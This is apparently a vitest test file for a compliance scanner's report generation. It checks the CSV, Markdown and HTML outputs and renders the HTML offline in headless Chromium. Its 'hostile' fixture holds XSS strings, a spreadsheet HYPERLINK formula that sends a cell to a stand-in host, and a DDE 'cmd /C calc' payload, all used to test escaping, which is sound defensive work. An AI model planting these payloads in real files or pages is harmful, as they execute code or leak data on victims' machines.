// Every report of one real run (the TLS lab, with a waiver), read back as its consumer reads it:
// results.json by the schema, findings.csv by a CSV parser, summary.md as GitHub shows it, and
// report.html in headless Chromium with the network cut off.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { parse } from 'csv-parse/sync'
import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ResultsSchema, type Finding, type Results } from '../../reports/model.ts'
import { CSV_COLUMNS, findingsCsv } from '../../reports/findings-csv.ts'
import { htmlReport } from '../../reports/html-report.ts'
import { markdownSummary } from '../../reports/markdown-summary.ts'
import { runVigil, type VigilResult } from '../run-vigil.ts'
import { startTlsLab, type TlsLab } from './tls-lab-inventory.ts'

let lab: TlsLab
let run: VigilResult
let results: Results
const out = () => join(lab.dir, 'out')

beforeAll(async () => {
  lab = await startTlsLab('vigil-reports-')
  writeFileSync(
    join(lab.dir, 'waivers.yaml'),
    'waivers:\n  - {id: W-7, check: tls.cert.expiry, target: web-expiring, justification: "Renewal booked <with the CA> & confirmed", approver: Dana Reyes (CISO), ticket: SEC-1042, expires: 2099-01-31}\n',
  )
  writeFileSync(join(lab.dir, 'step-summary.md'), '# earlier step\n')
  run = await runVigil(['run', '--config', lab.config, '--out', 'out', '--waivers', 'waivers.yaml'], { cwd: lab.dir, env: { GITHUB_STEP_SUMMARY: join(lab.dir, 'step-summary.md') } })
  results = ResultsSchema.parse(JSON.parse(readFileSync(join(out(), 'results.json'), 'utf8')))
}, 180_000)

afterAll(async () => lab?.stop())

describe('the report files of a run', () => {
  it('are all written, from the same findings', () => {
    expect(run.code).toBe(1)
    for (const f of ['results.json', 'junit.xml', 'report.html', 'summary.md', 'findings.csv', 'observations.json', 'run.json']) expect(existsSync(join(out(), f)), f).toBe(true)
    expect(results.findings.length).toBe(20 * 12)
    expect(results.totals).toMatchObject({ waived: 1 })
    expect(run.stdout).toContain(`report:  ${join('out', 'report.html')}`)
  })

  it('each finding says how its observation was obtained and what it covered, and points at the raw observation', () => {
    const observations = JSON.parse(readFileSync(join(out(), 'observations.json'), 'utf8')) as { targets: { target: string; startedAt: string; data: unknown }[] }
    for (const f of results.findings) {
      const p = f.provenance!
      expect(p.probe).toBe('checks/tls/probe.ts (observeTls)')
      expect(p.target).toMatchObject({ name: f.target, address: '127.0.0.1' })
      expect(p.parts.length).toBeGreaterThan(0)
      expect(p.timeoutMs).toBe(2000)
      expect(Date.parse(p.finishedAt)).toBeGreaterThanOrEqual(Date.parse(p.startedAt))
      const [, index] = /^observations\.json#\/targets\/(\d+)$/.exec(p.observation)!
      expect(observations.targets[Number(index)]!.target).toBe(f.target)
      expect(observations.targets[Number(index)]!.startedAt).toBe(f.observedAt)
    }
    const good = results.findings.find((f) => f.checkId === 'tls.protocols' && f.target === 'web-good')!
    // the connections, hellos and handshakes that were made, and the population they covered
    expect(good.provenance!.operations).toMatchObject({ rawHellos: expect.any(Number), connections: expect.any(Number) })
    expect((good.provenance!.operations.rawHellos as number) > 5).toBe(true)
    expect(good.population).toMatchObject({ protocolsAccepted: 2, certificatesServed: 2 })
    expect(good.population!.suitesAccepted).toBeGreaterThan(3)
    // expected vs actual are data, not a sentence
    const fs = results.findings.find((f) => f.checkId === 'tls.forward-secrecy' && f.target === 'web-mixed-fs')!
    expect(fs.expected).toMatchObject({ mode: 'all' })
    expect(fs.actual).toMatchObject({ forwardSecrecy: 'some' })
  })

  it('findings.csv has one row per finding with the auditor columns, and the values of results.json', () => {
    const text = readFileSync(join(out(), 'findings.csv'), 'utf8')
    expect(text.startsWith('\ufeff')).toBe(true)
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[]
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS])
    expect(rows).toHaveLength(results.findings.length)
    for (const [i, f] of results.findings.entries()) {
      const row = rows[i]!
      expect([row.finding_id, row.status, row.check_id, row.target, row.controls]).toEqual([f.id, f.status, f.checkId, f.target, f.controls.join(' ')])
      expect(JSON.parse(row.expected!)).toEqual(f.expected)
      expect(JSON.parse(row.actual!)).toEqual(f.actual)
    }
    const waived = rows.find((r) => r.status === 'waived')!
    expect(waived).toMatchObject({ waiver_id: 'W-7', waiver_approver: 'Dana Reyes (CISO)', waiver_ticket: 'SEC-1042', waiver_expires: '2099-01-31', verdict: 'failed' })
  })

  it('summary.md leads with the verdict and lists what needs attention; on GitHub Actions it is appended to the step summary', () => {
    const md = readFileSync(join(out(), 'summary.md'), 'utf8')
    expect(md).toMatch(/^## Vigil: ❌ \*\*failed\*\*\n/)
    expect(md).toMatch(/\| ❌ failed \| `tls\.forward-secrecy` \| medium \| web-mixed-fs \|/)
    expect(md).toMatch(/\| ⚠️ error \| `tls\.protocols` \| high \| web-dead \|/)
    expect(md).toContain('<details><summary>Waived findings</summary>')
    expect(md).toMatch(/\| `tls\.cert\.expiry` \| web-expiring \| W-7 \(SEC-1042\) \| Dana Reyes \(CISO\) \| 2099-01-31 \| failed \|/)
    expect(md).not.toMatch(/\| [✅] passed/)
    expect(readFileSync(join(lab.dir, 'step-summary.md'), 'utf8')).toBe(`# earlier step\n${md}\n`)
  })
})

/** One finding whose every field came from a hostile peer. */
function hostile(): Results {
  const f: Finding = {
    id: 'tls.protocols@evil#p.feature:1', fingerprint: '0'.repeat(64), scenarioKey: 'k', severity: 'high', checkId: 'tls.protocols', target: 'evil', targetKind: 'tls', status: 'failed', verdict: 'failed',
    policy: 'p.feature', scenario: 'Only <b>modern</b> TLS', controls: ['soc2:CC6.7'], summary: '=HYPERLINK("http://x.test/?"&A1) <script>alert(1)</script> | pipe',
    params: {}, expected: { a: '<img src=x onerror=alert(1)>' }, actual: { banner: '+cmd|" /C calc"!A0' }, observed: {},
    evidence: [{ kind: 'banner', description: '</pre><script>alert(2)</script>', data: '</pre><iframe src="http://x.test/">' }], observedAt: '2026-12-01T00:00:00Z',
  }
  return {
    schemaVersion: 2,
    identityVersion: 1,
    run: { id: 'r', startedAt: '2026-12-01T00:00:00Z', finishedAt: '2026-12-01T00:00:01Z', vigilVersion: 'v', nodeVersion: 'n', host: 'h', operator: 'o', inventory: 'i', features: [] },
    totals: { passed: 0, failed: 1, error: 0, 'not-applicable': 0, skipped: 0, waived: 0 }, population: { tls: { planned: 1, observed: 1 } }, findings: [f], problems: [],
  }
}

describe('reports carry hostile text safely', () => {
  it('findings.csv escapes cells a spreadsheet would execute as formulas', () => {
    const rows = parse(findingsCsv(hostile()), { bom: true, columns: true }) as Record<string, string>[]
    expect(rows[0]!.summary!.startsWith(`'=HYPERLINK(`)).toBe(true)
  })

  it('report.html escapes every field and fetches nothing', () => {
    const html = htmlReport(hostile())
    expect(html).not.toMatch(/<script>alert|<img src=x|<iframe|<b>modern/)
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    // the page's one script is inline and pinned by hash; nothing has a src or a remote href
    expect(html.match(/<script/g)).toHaveLength(1)
    expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;; script-src &#39;sha256-[A-Za-z0-9+/=]+&#39;/)
    expect(html).not.toMatch(/<[a-z][^<>]*\s(src|href)="?(https?:)?\/\//i)
    expect(html).not.toMatch(/<[a-z][^<>]*\ssrc=/i)
  })

  it('summary.md keeps hostile text inside its table cell', () => {
    const md = markdownSummary(hostile())
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt; \\| pipe')
    expect(md).not.toContain('<script>')
  })
})

describe('report.html in headless Chromium, offline', () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath: '/usr/bin/chromium',
      // as root in CI; no background traffic (the machine has no network but the package registries)
      args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    })
  }, 60_000)
  afterAll(async () => browser?.close())

  it('renders summary first, then the control matrix, exceptions and evidence, with no request leaving the file and no script error', async () => {
    const page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
    const requests: string[] = []
    const errors: string[] = []
    page.on('console', (m) => void (m.type() === 'error' && errors.push(m.text())))
    page.on('pageerror', (e) => void errors.push(e.message))
    // anything but the file itself is refused: if the page needed it, the assertions below fail
    await page.route('**/*', (route) => {
      requests.push(route.request().url())
      return route.request().url().startsWith('file:') ? route.continue() : route.abort()
    })
    const url = pathToFileURL(join(out(), 'report.html')).href
    await page.goto(url, { waitUntil: 'load' })
    expect(requests).toEqual([url])
    expect(errors).toEqual([])

    await expect.poll(() => page.locator('.banner').innerText()).toMatch(/^Failed — \d+ finding\(s\) show a requirement that is not met\.$/)
    const y = async (sel: string) => (await page.locator(sel).boundingBox())!.y
    const [summary, controls, exceptions, findings] = await Promise.all(['#summary', '#controls', '#exceptions', '#findings'].map(y))
    expect(summary! < controls! && controls! < exceptions! && exceptions! < findings!).toBe(true)
    // the control matrix: control → checks → targets → status, each target linked to its finding
    const row = page.locator('table.matrix tr', { hasText: 'Protection of information in transmission' }).first()
    expect(await row.locator('td.ref').innerText()).toBe('CC6.7')
    expect(await row.locator('a.chip').count()).toBeGreaterThan(100)
    await row.locator('a.chip.failed', { hasText: 'web-mixed-fs' }).first().click()
    expect(decodeURIComponent(new URL(page.url()).hash)).toMatch(/^#f-[0-9a-f]{16}$/)
    // exceptions and the waived finding, in words
    expect(await page.locator('#exceptions').innerText()).toContain('Renewal booked <with the CA> & confirmed')
    const waived = page.locator('article.finding.waived')
    expect(await waived.count()).toBe(1)
    expect(await waived.innerText()).toMatch(/Waived by W-7 \(SEC-1042\), approved by Dana Reyes \(CISO\) until 2099-01-31/)
    // evidence is there, one click away
    const card = page.locator('article.finding.failed', { hasText: 'web-mixed-fs' }).first()
    await card.locator('summary', { hasText: 'How this was observed' }).click()
    expect(await card.innerText()).toMatch(/checks\/tls\/probe\.ts/)
    // the status filters work under the page's CSP (hash-pinned inline script)
    const passed = page.locator('article.finding.passed')
    expect(await passed.first().isVisible()).toBe(true)
    await page.locator('[data-filter="passed"]').uncheck()
    expect(await passed.first().isVisible()).toBe(false)
    await page.locator('[data-filter="passed"]').check()

    mkdirSync('.tmp', { recursive: true })
    await page.goto(url)
    await page.screenshot({ path: '.tmp/report-summary.png' })
    await page.locator('#controls').scrollIntoViewIfNeeded()
    await page.screenshot({ path: '.tmp/report-controls.png' })
    expect(errors).toEqual([])
    await page.close()
  }, 60_000)
})
